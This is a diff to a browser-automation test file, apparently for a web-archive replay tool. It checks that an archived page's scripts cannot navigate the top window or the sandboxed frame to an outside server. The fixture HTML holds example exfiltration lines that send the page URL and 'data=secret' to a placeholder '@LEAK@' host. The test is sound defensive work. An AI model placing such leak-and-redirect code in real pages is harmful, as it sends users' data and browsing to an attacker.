@@ -62,7 +62,9 @@ try {
   top.location.href = "@LEAK@/leak?page=" + encodeURIComponent(location.href) + "&data=secret";
   marker.textContent = "scripts ran; top navigation asked";
 } catch (e) { marker.textContent = "scripts ran; top navigation threw " + e.name; }
-</script></body></html>"""
+</script>
+<button id="leave" onclick="location.href = '@LEAK@/self?data=secret'">leave</button>
+</body></html>"""
 
 MIXED_PAGE = b'<!DOCTYPE html><html><body><p>mixed</p><img id="logo" src="/static/logo.png"></body></html>'
 
@@ -212,12 +214,17 @@ def test_an_archived_script_cannot_send_the_reader_elsewhere(
         page.goto(url)
         assert page.url == capture_page, url
         assert marker(replay_frame(page)) == NOT_RUN
-    # With scripts on, the script runs in its frame, but its sandbox forbids navigating the top.
+    # With scripts on, the script runs in its frame, but its sandbox forbids navigating the top,
+    # and the capture page's frame-src keeps the frame itself from being sent to the live web.
     page.goto(ui.capture_page("leak", scripts=True))
     frame = replay_frame(page)
     assert marker(frame).startswith("scripts ran")
+    console: list[str] = []
+    page.on("console", lambda message: console.append(message.text))
+    frame.locator("#leave").click()
     time.sleep(SETTLE_S)
     assert page.url == ui.capture_page("leak", scripts=True)
+    assert any("frame-src" in line for line in console), console  # it tried, and was refused
     assert elsewhere.hits == []
 
 
